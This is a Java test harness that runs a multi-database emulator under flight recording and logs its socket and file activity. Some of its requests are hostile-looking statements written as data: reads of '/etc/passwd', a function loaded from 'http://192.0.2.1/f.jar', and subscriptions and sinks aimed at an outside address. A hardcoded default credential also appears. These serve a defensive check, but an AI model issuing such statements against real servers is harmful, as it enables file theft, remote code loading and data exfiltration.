package io.mimeseries.server.cli;

import static java.nio.charset.StandardCharsets.US_ASCII;

import io.mimeseries.server.Endpoint;
import java.io.IOException;
import java.io.PrintStream;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import jdk.jfr.Recording;

/**
 * A session with all databases and the control API in a JVM of its own, which records what it does to sockets and files. Some of the requests ask a
 * real server to connect to elsewhere or to touch files.
 */
final class RecordedSession {
    static final String RECORDING = "session.jfr";
    static final String SOCKETS = "sockets.txt";
    static final String PORTS = "ports.json";

    private static final String ELSEWHERE = "192.0.2.1";
    private static final List<String> EVENTS =
            List.of("jdk.SocketRead", "jdk.SocketWrite", "jdk.FileRead", "jdk.FileWrite", "jdk.FileForce");

    private RecordedSession() {}

    /** @param arguments the folder that may be written to */
    public static void main(String[] arguments) throws IOException {
        var folder = Path.of(arguments[0]);
        List<String> sockets = List.of();
        try (var recording = new Recording()) {
            for (var event : EVENTS) {
                recording.enable(event).withThreshold(Duration.ZERO).withoutStackTrace();
            }
            recording.start();
            var serve = List.of(
                    "--influxdb=0",
                    "--influxdb-udp=0:udp",
                    "--iotdb=0",
                    "--riak-ts=0",
                    "--tdengine=0",
                    "--control=0",
                    "--ports-file=" + folder.resolve(PORTS));
            try (var running = Main.run(serve, System.out, new PrintStream(System.out), server -> {})
                    .running()) {
                use(running);
                if (OwnSockets.areTold()) {
                    sockets = OwnSockets.list();
                }
            }
            recording.stop();
            recording.dump(folder.resolve(RECORDING));
        }
        Files.write(folder.resolve(SOCKETS), sockets);
    }

    private static void use(RunningServer running) throws IOException {
        for (var endpoint : running.endpoints()) {
            switch (endpoint.name()) {
                case "influxdb" -> influxDb(endpoint);
                case "influxdb-udp" -> send(endpoint, "m v=1");
                case "iotdb" ->
                    ask(endpoint, new byte[] {0, 0, 0, 15, -128, 1, 0, 1, 0, 0, 0, 2, 'n', 'o', 0, 0, 0, 1, 0});
                case "riak-ts" -> ask(endpoint, new byte[] {0, 0, 0, 1, 1});
                case "tdengine" -> {
                    sql(endpoint, "CREATE DATABASE d");
                    sql(endpoint, "CREATE TABLE d.t (ts TIMESTAMP, v INT)");
                    sql(endpoint, "INSERT INTO d.t FILE '/etc/passwd'");
                    sql(endpoint, "CREATE FUNCTION f AS '/etc/passwd' OUTPUTTYPE INT");
                    sql(endpoint, "CREATE DNODE '" + ELSEWHERE + "' PORT 6030");
                }
                default -> {
                    post(endpoint, "/control/snapshots", "{}");
                    post(endpoint, "/control/reset", "{}");
                }
            }
        }
        attempt(running, "LOAD '/etc/passwd'");
        attempt(running, "CREATE FUNCTION f AS 'io.mimeseries.F' USING URI 'http://" + ELSEWHERE + "/f.jar'");
        attempt(running, "CREATE PIPESINK s AS IoTDB (ip='" + ELSEWHERE + "', port='6667')");
    }

    private static void influxDb(Endpoint endpoint) throws IOException {
        post(endpoint, "/query?q=CREATE+DATABASE+d", "");
        for (var scheme : List.of("http", "udp")) {
            post(
                    endpoint,
                    "/query?q=CREATE+SUBSCRIPTION+" + scheme + "+ON+d.autogen+DESTINATIONS+ALL+'" + scheme + "://"
                            + ELSEWHERE + ":9'",
                    "");
        }
        post(endpoint, "/write?db=d", "m v=1");
        post(endpoint, "/query?db=d&q=SELECT+v+FROM+m", "");
    }

    /** What is refused is refused; that is for others to test. */
    private static void attempt(RunningServer running, String statement) {
        try {
            running.server().iotDb().rootSession().execute(statement);
        } catch (RuntimeException e) {
            System.out.println(statement + ": " + e.getMessage());
        }
    }

    private static void sql(Endpoint endpoint, String statement) throws IOException {
        ask(
                endpoint,
                ("POST /rest/sql HTTP/1.1\r\nHost: localhost\r\nAuthorization: Basic cm9vdDp0YW9zZGF0YQ==\r\nContent-Length: "
                                + statement.length() + "\r\n\r\n" + statement)
                        .getBytes(US_ASCII));
    }

    private static void post(Endpoint endpoint, String path, String body) throws IOException {
        ask(
                endpoint,
                ("POST " + path + " HTTP/1.1\r\nHost: localhost\r\nContent-Length: " + body.length() + "\r\n\r\n"
                                + body)
                        .getBytes(US_ASCII));
    }

    private static void ask(Endpoint endpoint, byte[] request) throws IOException {
        try (var socket = new Socket(InetAddress.getLoopbackAddress(), endpoint.port())) {
            socket.getOutputStream().write(request);
            if (socket.getInputStream().read() < 0) {
                throw new IOException("no answer of " + endpoint.name());
            }
        }
    }

    private static void send(Endpoint endpoint, String datagram) throws IOException {
        try (var socket = new DatagramSocket()) {
            var bytes = datagram.getBytes(US_ASCII);
            socket.send(new DatagramPacket(bytes, bytes.length, InetAddress.getLoopbackAddress(), endpoint.port()));
        }
    }
}
